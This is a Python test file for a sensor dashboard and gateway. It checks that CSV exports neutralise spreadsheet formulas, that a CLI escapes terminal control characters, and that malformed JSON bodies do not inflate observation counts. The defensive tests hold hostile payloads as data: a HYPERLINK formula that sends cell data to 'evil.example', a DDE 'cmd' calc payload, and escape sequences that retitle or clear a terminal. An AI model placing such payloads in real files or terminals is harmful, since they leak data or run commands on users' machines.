"""The reported low findings, one test each: CSV cells a spreadsheet would run, terminal escapes
in stored payloads, and message bodies that claim thousands of observations."""

from __future__ import annotations

import csv
import io
import time
from pathlib import Path

import pandas as pd
import pytest

from dashboard.core.actions import ExportWriter
from dashboard.core.cells import cells
from dashboard.pages.compare import to_csv
from gateway.cli import main as classnet
from gateway.decode_batch import decode_messages
from ingest import open_store
from tests import servers
from tests.gateway.chain import start_gateway
from tests.mqtt_clients import publish
from tests.waiting import wait_until

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_compare_download_cells_are_not_formulas() -> None:
    payload = {
        "variable": "temp_c",
        "series": [{"station": "fi-a-01", "name": FORMULA, "x": ["2026-01-01T00:00"], "y": [1.5]}],
    }
    rows = list(csv.reader(io.StringIO(to_csv(payload, "en", {}))))
    assert rows[1][1] == "'" + FORMULA  # shown as text by the spreadsheet
    assert rows[1][3] == "1.500"


def test_export_cells_are_not_formulas() -> None:
    export = pd.DataFrame(
        {
            "station": ["fi-a-01"],
            "time": pd.to_datetime([0], unit="s", utc=True),
            "local_time": pd.to_datetime([0], unit="s"),
            "temp_c_qc": ["@SUM(1+1)*cmd|' /C calc'!A0"],
            "temp_c": [-3.5],  # a negative number stays a number
        }
    )
    out = io.BytesIO()
    with ExportWriter("csv", out) as writer:
        writer.write(export)
    rows = list(csv.reader(io.StringIO(out.getvalue().decode())))
    assert rows[1][3].startswith("'@") and rows[1][4] == "-3.5"


def test_cells_of_every_kind_of_column() -> None:
    """Text among numbers and gaps, text in a pyarrow or categorical column, and object columns
    of numbers or of nothing (pandas's string methods refuse those): only text is touched."""
    frame = pd.DataFrame(
        {
            "mixed": pd.Series([1, "=1+1", None, 2.5], dtype=object),
            "arrow": pd.Series(["@x", "z", None, "-"], dtype="string[pyarrow]"),
            "category": pd.Series(["\tq", "a", "\tq", "b"], dtype="category"),
            "numbers": pd.Series([1, 2, 3, 4], dtype=object),
            "nothing": pd.Series([None] * 4, dtype=object),
            "negative": [-1.0, -2.0, 3.0, 4.0],
        }
    )
    rows = list(csv.reader(io.StringIO(cells(frame).to_csv(index=False))))
    assert rows[1:] == [
        ["1", "'@x", "'\tq", "1", "", "-1.0"],
        ["'=1+1", "z", "a", "2", "", "-2.0"],
        ["", "", "'\tq", "3", "", "3.0"],
        ["2.5", "'-", "b", "4", "", "4.0"],
    ]


def test_rejects_shows_control_characters_escaped(tmp_path: Path, capsys) -> None:
    url = f"sqlite:///{tmp_path / 'obs.db'}"
    hostile = b"\x1b]0;owned\x07\x1b[2J\x1b[31m\xe2\x80\xaeevil"  # retitle, clear, colour, bidi
    now = time.time()
    batch = decode_messages([("classnet/v1/ph-term-01/obs", hostile)], now, int(now * 1000)).batch
    store = open_store(url)
    store.write(batch)
    store.close()
    assert classnet(["rejects", "--store", url]) == 0
    out = capsys.readouterr().out
    assert "ph-term-01" in out
    assert not any(ch in out for ch in "\x1b\x07\u202e")
    assert "\\x1b]0;owned\\x07" in out  # still shown, as text


def test_a_body_of_braces_is_one_message_not_thousands(
    mosquitto: servers.Server, tmp_path: Path
) -> None:
    # Each of these was counted as 5,000 observations: one batch (one store write) per message.
    store = open_store(f"sqlite:///{tmp_path / 'obs.db'}")
    gateway = start_gateway(mosquitto.port, store, tmp_path / "spool", batch_size=5000)
    try:
        n = 200
        publish(mosquitto.port, [("classnet/v1/ph-brace-01/obs", b"[" + b"{" * 5000)] * n)
        rejected = gateway.metrics.rejected.labels("bad_json")
        wait_until(lambda: rejected._value.get() >= n, what=f"{n} rejects")
        batches = sum(  # the write-time histogram counts one sample per store write
            s.value
            for m in gateway.metrics.write_seconds.collect()
            for s in m.samples
            if s.name.endswith("_count")
        )
        assert batches < n / 10, f"{batches} store writes for {n} messages"
    finally:
        gateway.stop()


@pytest.mark.parametrize("body", [b"[" + b"{" * 5000, b"[" + b"[" * 100_000, b"[1, 2, 3]"])
def test_observation_count_never_scans_bytes(body: bytes) -> None:
    from gateway.decode_batch import observation_count

    assert observation_count(body) == (3 if body == b"[1, 2, 3]" else 1)
